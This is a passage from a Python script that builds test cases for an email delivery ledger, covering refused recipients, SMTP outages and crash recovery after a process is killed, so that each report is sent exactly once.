    delivery_case("refused-in-capitals", "mail", "A refusal of the address in other letter case is the same refusal",
                  {"recipients": [DISTRICT, PGD], "refused": [PGD.upper()], "runs": 2,
                   "raises": "DeliveryPartlyRefused", "says": [PGD], "received": 1, "ledger_state": "sent",
                   "ledger_recipients": [DISTRICT]})
    delivery_case("server-down-twice", "mail", "SMTP down for two runs: nothing recorded, the third sends once",
                  {"down_runs": [1, 2], "runs": 3, "raises_first": "MailServerUnreachable",
                   "statuses": [None, None, "sent"], "received": 1, "ledger_state": "sent"})

    # What a kill -9 leaves: a pending row, with or without the report in the mailbox.
    delivery_case("after-send-found-late", "kill", "Killed after the send, re-run the next day: still one email",
                  {"before": "pending", "in_mailbox": True, "minutes_later": 1440, "runs": 1,
                   "statuses": ["recovered_from_pending"], "received": 0, "ledger_state": "sent"})
    delivery_case("after-send-before-ledger", "kill", "Killed between the send and the ledger: one email",
                  {"before": "pending", "in_mailbox": True, "runs": 2,
                   "statuses": ["recovered_from_pending", "already_sent"], "received": 0, "ledger_state": "sent"})
    delivery_case("before-send-soon", "kill", "Killed before the send, re-run at once: waits, sends nothing",
                  {"before": "pending", "minutes_later": 2, "runs": 1, "raises": "DeliveryInProgress",
                   "says": ["một lượt chạy khác đã bắt đầu gửi"], "received": 0, "ledger_state": "pending"})
    delivery_case("before-send-stale", "kill", "Killed before the send, re-run when stale: sent once",
                  {"before": "pending", "minutes_later": 11, "runs": 2,
                   "statuses": ["resent_after_crash", "already_sent"], "received": 1, "ledger_state": "sent"})


def main() -> None:
    CASES.mkdir(exist_ok=True)
    plans()
    rows()
    annex()
    templates()
    credentials()
    deliveries()


if __name__ == "__main__":
    main()
